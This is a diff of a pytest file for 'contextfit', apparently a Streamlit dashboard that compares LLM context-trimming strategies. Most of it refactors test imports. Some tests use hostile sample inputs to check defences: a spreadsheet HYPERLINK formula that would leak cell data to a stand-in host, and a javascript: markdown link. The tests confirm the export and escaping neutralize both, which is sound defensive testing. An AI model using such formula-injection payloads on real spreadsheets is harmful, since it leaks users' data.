@@ -14,10 +14,12 @@ from streamlit.testing.v1 import AppTest
 
 import contextfit
 from contextfit.dashboard import charts as chart_views
-from contextfit.dashboard import block_chart, page_data as dashboard, source_panel, verdict
+import widgets.source
+from contextfit.dashboard import audit_view, block_chart, compare_view, editor, exports, markdown, verdict
+from contextfit.dashboard.sessions import session_for
+from contextfit.dashboard.setup import Setup, suggested_setup
 from contextfit.inputs.samples import SAMPLES, load_sample
-from contextfit.serving.audits import chat_label, list_audited_chats, load_audit_plan
-from contextfit.tokens.models import get_model
+from contextfit.serving.audits import chat_label
 
 STRATEGIES = ("truncate", "summarize", "vector-recall", "manual", "clear-tool-results", "fact-ledger")
 
@@ -31,14 +33,18 @@ def decode(values):
     return values
 
 
+def plan_one(conversation, setup, name):
+    return contextfit.plan_prompt(conversation, setup.settings, context_strategy=name)
+
+
 # -- logic ------------------------------------------------------------------------------
 
 
 @pytest.mark.parametrize("sample", [s.key for s in SAMPLES])
 def test_every_sample_shows_the_strategies_disagreeing(sample):
     conversation = load_sample(sample)
-    setup = dashboard.suggested_setup(conversation)
-    plans = {name: dashboard.plan_one(conversation, setup, name) for name in STRATEGIES}
+    setup = suggested_setup(conversation)
+    plans = {name: plan_one(conversation, setup, name) for name in STRATEGIES}
     fates = {name: [b.fate for b in plan.blocks] for name, plan in plans.items()}
     assert len({tuple(f) for f in fates.values()}) >= 2, "a sample should show strategies differing"
     assert all(plan.prompt_tokens <= plan.budget for plan in plans.values())
@@ -58,55 +64,55 @@ def test_samples_show_what_they_promise():
 
 def test_suggested_setup_uses_the_bundle_then_the_model():
     conversation = load_sample("coding_agent")
-    setup = dashboard.suggested_setup(conversation)
+    setup = suggested_setup(conversation)
     assert (setup.model, setup.context_limit, setup.response_reserve) == ("gpt-4o", 1500, 400)
     plain = contextfit.load_conversation('[{"role": "user", "content": "hi"}]')
-    setup = dashboard.suggested_setup(plain, "claude-sonnet-4")
-    info = get_model("claude-sonnet-4")
+    setup = suggested_setup(plain, "claude-sonnet-4")
+    info = contextfit.tokens.models.get_model("claude-sonnet-4")
     assert setup.context_limit == info.context_limit and setup.response_reserve <= info.max_output
 
 
 def test_edits_pin_and_exclude_blocks():
     conversation = load_sample("support_chat")
-    setup = dashboard.suggested_setup(conversation)
-    plans = {"truncate": dashboard.plan_one(conversation, setup, "truncate")}
-    rows = dashboard.editor_rows(conversation, setup, plans)
+    setup = suggested_setup(conversation)
+    plans = {"truncate": plan_one(conversation, setup, "truncate")}
+    rows = editor.editor_rows(conversation, setup, plans)
     dropped = next(row for row in rows if not next(b for b in plans["truncate"].blocks if b.id == row["id"]).included)
     edited = [dict(row, pinned=True) if row["id"] == dropped["id"] else row for row in rows]
-    overrides = dashboard.overrides_from_rows(edited, rows)
+    overrides = editor.overrides_from_rows(edited, rows)
     assert overrides == {dropped["id"]: {"pinned": True}}
-    edited_setup = dashboard.Setup(setup.model, setup.context_limit, setup.response_reserve, overrides=overrides)
-    pinned = dashboard.plan_one(conversation, edited_setup, "truncate")
+    edited_setup = Setup.of(setup.model, setup.context_limit, setup.response_reserve, overrides=overrides)
+    pinned = plan_one(conversation, edited_setup, "truncate")
     block = next(b for b in pinned.blocks if b.id == dropped["id"])
     assert block.included and block.reason == "pinned" and block.fate == "protected"
     # Unpinning the account details lets truncate drop them.
-    unpinned = dashboard.Setup(setup.model, 400, 100, overrides={"account": {"pinned": False}})
-    plan = dashboard.plan_one(conversation, unpinned, "truncate")
+    unpinned = Setup.of(setup.model, 400, 100, overrides={"account": {"pinned": False}})
+    plan = plan_one(conversation, unpinned, "truncate")
     assert next(b for b in plan.blocks if b.id == "account").reason == "over_budget"
 
 
 def test_the_editor_still_works_when_no_strategy_fits():
     conversation = load_sample("support_chat")
-    setup = dashboard.Setup("gpt-4o-mini", 200, 100)
+    setup = Setup.of("gpt-4o-mini", 200, 100)
     plans = {}
     for name in STRATEGIES:
         try:
-            plans[name] = dashboard.plan_one(conversation, setup, name)
+            plans[name] = plan_one(conversation, setup, name)
         except contextfit.TokenBudgetExceeded as error:
             plans[name] = error
-    rows = dashboard.editor_rows(conversation, setup, plans)
+    rows = editor.editor_rows(conversation, setup, plans)
     assert next(row for row in rows if row["id"] == "account")["pinned"] is True
     assert all(row["tokens"] is None for row in rows)
 
 
 def test_downloads():
-    plan = dashboard.plan_one(load_sample("coding_agent"), dashboard.suggested_setup(load_sample("coding_agent")), "summarize")
-    table = list(csv.DictReader(io.StringIO(dashboard.blocks_csv(plan))))
+    plan = plan_one(load_sample("coding_agent"), suggested_setup(load_sample("coding_agent")), "summarize")
+    table = list(csv.DictReader(io.StringIO(exports.blocks_csv(plan))))
     assert len(table) == len(plan.blocks) and table[0]["fate"] == "protected"
-    body = json.loads(dashboard.provider_json(plan))
+    body = json.loads(exports.provider_json(plan))
     assert body["messages"] == plan.provider_messages and body["model"] == "gpt-4o"
-    assert json.loads(dashboard.plan_json(plan))["promptTokens"] == plan.prompt_tokens
-    assert any("summarized" in line for line in dashboard.dropped_lines(plan))
+    assert json.loads(exports.plan_json(plan))["promptTokens"] == plan.prompt_tokens
+    assert any("summarized" in line for line in compare_view.dropped_lines(plan))
 
 
 def test_the_blocks_csv_never_hands_a_spreadsheet_a_formula():
@@ -119,7 +125,7 @@ def test_the_blocks_csv_never_hands_a_spreadsheet_a_formula():
         {"role": "user", "content": "+1 555 0100 is my number; ORD-7731 is the order."},
     ]
     plan = contextfit.plan_prompt(messages, model="gpt-4o")
-    table = list(csv.DictReader(io.StringIO(dashboard.blocks_csv(plan))))
+    table = list(csv.DictReader(io.StringIO(exports.blocks_csv(plan))))
     assert [row["text"] for row in table] == [
         "'@SUM(A1:A9)", '\'=HYPERLINK("http://example.invalid/?leak="&A1, "open")', "'- first item\n- second",
         "'+1 555 0100 is my number; ORD-7731 is the order."]
@@ -132,27 +138,27 @@ def test_the_blocks_csv_never_hands_a_spreadsheet_a_formula():
 
 def test_plans_come_one_strategy_at_a_time_and_match_plan_one():
     conversation = load_sample("roleplay")
-    setup = dashboard.suggested_setup(conversation)
-    setup = dashboard.Setup(setup.model, setup.context_limit, setup.response_reserve, strategies=("manual", "truncate"))
-    made = dashboard.iter_plans(conversation, setup)
+    setup = suggested_setup(conversation)
+    setup = Setup.of(setup.model, setup.context_limit, setup.response_reserve, strategies=("manual", "truncate"))
+    made = session_for(conversation).plans(setup.settings, strategies=setup.strategies)
     name, plan = next(made)  # the first plan is ready before the second is made
-    assert name == "manual" and plan.blocks == dashboard.plan_one(conversation, setup, "manual").blocks
+    assert name == "manual" and plan.blocks == plan_one(conversation, setup, "manual").blocks
     assert [name for name, _ in made] == ["truncate"]
-    impossible = dashboard.Setup(setup.model, 60, 10, strategies=("truncate", "summarize"))
-    assert [type(plan).__name__ for plan in dashboard.plan_all(conversation, impossible).values()] == ["TokenBudgetExceeded"] * 2
+    impossible = Setup.of(setup.model, 60, 10, strategies=("truncate", "summarize"))
+    assert [type(plan).__name__ for plan in dict(session_for(conversation).plans(impossible.settings, strategies=impossible.strategies)).values()] == ["TokenBudgetExceeded"] * 2
 
 
 def test_dropped_lines_stop_at_the_limit():
     conversation = contextfit.load_conversation([{"role": "user", "content": f"message {i}"} for i in range(50)])
-    plan = dashboard.plan_one(conversation, dashboard.Setup("gpt-4o", 60, 0), "truncate")
-    lines = dashboard.dropped_lines(plan, limit=5)
+    plan = plan_one(conversation, Setup.of("gpt-4o", 60, 0), "truncate")
+    lines = compare_view.dropped_lines(plan, limit=5)
     dropped = sum(not block.included for block in plan.blocks)
     assert len(lines) == 6 and lines[-1] == f"… and {dropped - 5} more"
     assert lines[0].startswith("m0 user (") and "over_budget" in lines[0]  # the block id, as on every chart
 
 
 def test_plain_escapes_markdown():
-    assert dashboard.plain("[x](javascript:alert(1)) *a* <b>") == r"\[x\](javascript:alert(1)) \*a\* \<b\>"
+    assert markdown.plain("[x](javascript:alert(1)) *a* <b>") == r"\[x\](javascript:alert(1)) \*a\* \<b\>"
 
 
 # -- pages ------------------------------------------------------------------------------
@@ -170,10 +176,10 @@ def test_first_load_compares_a_sample_under_every_builtin_strategy():
     bars, block_charts_drawn = budget_bars(at), block_charts(at)  # one of each per strategy
     assert [bar.strategy for bar in bars] == [chart.strategy for chart in block_charts_drawn] == list(STRATEGIES)
     conversation = load_sample("roleplay")
-    setup = dashboard.suggested_setup(conversation)
+    setup = suggested_setup(conversation)
     budget_axes, block_axes = set(), set()
     for number, name in enumerate(STRATEGIES):
-        plan = dashboard.plan_one(conversation, setup, name)
+        plan = plan_one(conversation, setup, name)
         window = bars[number].rows["window"]
         assert sum(width for _, _, width, *_ in window) == pytest.approx(100, abs=0.01)
         assert sum(tokens for _, tokens, *_ in bars[number].rows["sent"]) == plan.prompt_tokens
@@ -188,7 +194,7 @@ def test_first_load_compares_a_sample_under_every_builtin_strategy():
         assert [tip.split(" · ")[0] for *_, tip in chart.columns] == keys  # each hover names its block
     assert len(budget_axes) == len(block_axes) == 1  # side-by-side charts share their scale
     (matrix,) = fate_grids(at)
-    plans = {name: dashboard.plan_one(conversation, setup, name) for name in STRATEGIES}
+    plans = {name: plan_one(conversation, setup, name) for name in STRATEGIES}
     view = chart_views.fate_matrix_view(plans)
     assert list(matrix.rows) == list(STRATEGIES)  # one row per strategy, one cell per block, shaded by its fate
     assert [[shade for shade, _ in cells] for cells in matrix.rows.values()] == [
@@ -218,11 +224,11 @@ def test_the_verdict_has_one_row_per_strategy_matching_the_plans():
     at = app().run()
     table = table_with(at, "cost / request")
     conversation = load_sample("roleplay")
-    setup = dashboard.suggested_setup(conversation)
+    setup = suggested_setup(conversation)
     assert list(table["strategy"]) == list(STRATEGIES)
-    expected = {row.strategy: row for row in verdict.verdict_rows(dashboard.plan_all(conversation, setup))}
+    expected = {row.strategy: row for row in verdict.verdict_rows(dict(session_for(conversation).plans(setup.settings, strategies=setup.strategies)))}
     for (_, row), name in zip(table.iterrows(), STRATEGIES):
-        plan = dashboard.plan_one(conversation, setup, name)
+        plan = plan_one(conversation, setup, name)
         counts = plan.counts  # the one count: the replay's too
         # the sample's assistant turns hold text beside their tool calls, a shape no recorded OpenAI count
         # covers: counted high and flagged (TOOL_SHAPES_UNVERIFIED), so the cell reads "up to"
@@ -352,14 +358,14 @@ def test_the_models_page_counts_tokens():
 
 def test_send_with_echo_stores_a_chat_whose_audit_matches_the_plan(tmp_path):
     conversation = load_sample("coding_agent")
-    setup = dashboard.suggested_setup(conversation)
+    setup = suggested_setup(conversation)
     store = str(tmp_path / "chats.db")
-    chat_id = dashboard.send_with_echo(conversation, setup, "summarize", store=store)
-    audit, plan = load_audit_plan(chat_id, store)
-    expected = dashboard.plan_one(conversation, setup, "summarize")
+    chat_id = audit_view.send_with_echo(conversation, setup, "summarize", store=store)
+    audit, plan = contextfit.serving.audits.load_audit_plan(chat_id, store)
+    expected = plan_one(conversation, setup, "summarize")
     assert audit.status == "completed" and audit.strategy == "summarize"
     assert audit.prompt_tokens == expected.prompt_tokens
-    assert [(r["id"], r["reason"], r["tokens"]) for r in dashboard.audit_rows(audit)] == [
+    assert [(r["id"], r["reason"], r["tokens"]) for r in audit_view.audit_rows(audit)] == [
         (b.id, b.reason, b.tokens) for b in expected.blocks
     ]
     # its title says how many messages were sent: the chat holds the echo's reply too
@@ -368,9 +374,9 @@ def test_send_with_echo_stores_a_chat_whose_audit_matches_the_plan(tmp_path):
     # its title names the conversation, the strategy and the model; a selector adds the messages it holds
     # now (the echo's reply too: the title counted them at sending, one short) and when it was made
     assert open_store(store).get_chat(chat_id).title == f"summarize · {setup.model}"
-    named = dashboard.send_with_echo(conversation, setup, "summarize", store=store, name="coding_agent")
-    chats = {chat.id: chat for chat in list_audited_chats(store)}
-    label = chat_label(chats[named])
+    named = audit_view.send_with_echo(conversation, setup, "summarize", store=store, name="coding_agent")
+    chats = {chat.id: chat for chat in contextfit.serving.audits.list_audited_chats(store)}
+    label = contextfit.serving.audits.chat_label(chats[named])
     when, _, rest = label.partition(" · ")
     assert rest == f"coding_agent · summarize · {setup.model} · {len(conversation.messages) + 1} messages"
     assert len(when) == 14 and when.count(":") == 2 and chat_label(chats[chat_id]) != label
@@ -391,7 +397,7 @@ def test_send_from_compare_opens_the_audit(tmp_path, monkeypatch):
     assert at.title[0].value == "Audit"
     assert at.success[0].value.startswith("completed · echo · gpt-4o")
     conversation = load_sample("roleplay")
-    plan = dashboard.plan_one(conversation, dashboard.suggested_setup(conversation), "vector-recall")
+    plan = plan_one(conversation, suggested_setup(conversation), "vector-recall")
     assert at.metric[0].value == f"{plan.prompt_tokens:,}"
     blocks = json.loads(at.get("plotly_chart")[1].proto.spec)
     assert sum(len(decode(trace["x"])) for trace in blocks["data"]) == len(plan.blocks)
@@ -401,8 +407,8 @@ def test_a_pasted_path_is_text_not_a_file_on_the_server(tmp_path, monkeypatch):
     secret = tmp_path / "secret.json"
     secret.write_text('[{"role": "user", "content": "server-side secret"}]')
     seen = []
-    read = source_panel.list_conversations
-    monkeypatch.setattr(source_panel, "list_conversations", lambda source, *a, **k: seen.append(source) or read(source, *a, **k))
+    read = widgets.source.list_conversations
+    monkeypatch.setattr(widgets.source, "list_conversations", lambda source, *a, **k: seen.append(source) or read(source, *a, **k))
     at = app().run()
     at.sidebar.radio[0].set_value("Paste").run()
     at.text_area(key="paste").set_value(str(secret)).run()
@@ -417,7 +423,7 @@ def test_a_request_with_tools_shows_its_tool_definitions_and_each_tool():
     assert not at.exception and not at.error
     kinds = table_with(at, "kind")
     tools_row = kinds[kinds["kind"] == "tool definitions"].iloc[0]
-    plan = dashboard.plan_one(load_sample("coding_agent"), dashboard.suggested_setup(load_sample("coding_agent")), "truncate")
+    plan = plan_one(load_sample("coding_agent"), suggested_setup(load_sample("coding_agent")), "truncate")
     assert tools_row["truncate"] == plan.tools_tokens > 0
     per_tool = table_with(at, "tool")
     assert per_tool["tokens"].sum() == plan.tools_tokens
@@ -438,9 +444,9 @@ def test_the_audit_page_keeps_the_chat_chosen_across_a_page_switch_and_a_reload(
     store = str(tmp_path / "chats.db")
     monkeypatch.setenv("CONTEXTFIT_DB", store)
     conversation = load_sample("coding_agent")
-    setup = dashboard.suggested_setup(conversation)
-    older = dashboard.send_with_echo(conversation, setup, "truncate", store=store, name="coding_agent")
-    newer = dashboard.send_with_echo(conversation, setup, "summarize", store=store, name="coding_agent")
+    setup = suggested_setup(conversation)
+    older = audit_view.send_with_echo(conversation, setup, "truncate", store=store, name="coding_agent")
+    newer = audit_view.send_with_echo(conversation, setup, "summarize", store=store, name="coding_agent")
     at = app().run()
     at.switch_page("pages/audit.py").run()
     assert at.selectbox(key="audit_chat_choice").value == newer
